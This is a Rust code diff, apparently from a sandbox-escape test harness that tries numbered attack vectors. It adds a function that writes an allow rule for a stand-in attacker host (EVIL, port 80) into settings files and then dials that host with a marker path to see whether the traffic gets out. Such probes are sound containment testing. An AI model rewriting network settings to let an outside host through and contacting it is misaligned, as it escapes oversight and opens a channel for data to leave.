@@ -5,8 +5,12 @@ mod files;
 pub(crate) mod kernel;
 mod packets;
 
+use crate::dial;
+use crate::rig::EVIL;
 use crate::scene::{Arm, Scene};
 use crate::vector::{Stop, Trial, Tried, Vector};
+use std::fs;
+use std::path::PathBuf;
 
 /// All vectors, in the order of their numbers.
 pub fn all() -> impl Iterator<Item = &'static Vector> {
@@ -19,12 +23,28 @@ pub(crate) fn tried(arm: Arm) -> Vec<u16> {
     inside.filter(|vector| arm != Arm::Copied || vector.differs_in_a_copy()).map(|vector| vector.number).collect()
 }
 
+/// The one of this number.
+pub(crate) fn numbered(number: u16) -> Option<&'static Vector> {
+    all().find(|vector| vector.number == number)
+}
+
 /// Tries one.
 pub(crate) fn attempt(scene: &Scene, number: u16) -> Tried {
-    match all().find(|vector| vector.number == number).map(|vector| vector.trial) {
+    match numbered(number).map(|vector| vector.trial) {
         Some(Trial::Attempt(_, attempt)) => attempt(scene, &scene.mark(number)),
         _ => Err(Stop::Untried("there is no such attempt".to_owned())),
     }
+}
+
+/// Allows the attacker's host in these settings, and dials it. Where they cannot be written, they are not; what counts is
+/// what is let through afterwards.
+fn get_by_settings(files: impl IntoIterator<Item = PathBuf>, mark: &str) -> Tried {
+    let allow = format!("[[allow]]\nhosts = [\"{EVIL}\"]\nports = [80]\n");
+    for file in files {
+        let directory = file.parent().map_or(Ok(()), fs::create_dir_all);
+        directory.and_then(|()| fs::write(&file, &allow)).ok();
+    }
+    dial::get(EVIL, 80, &format!("/{mark}"))
 }
 
 #[cfg(test)]
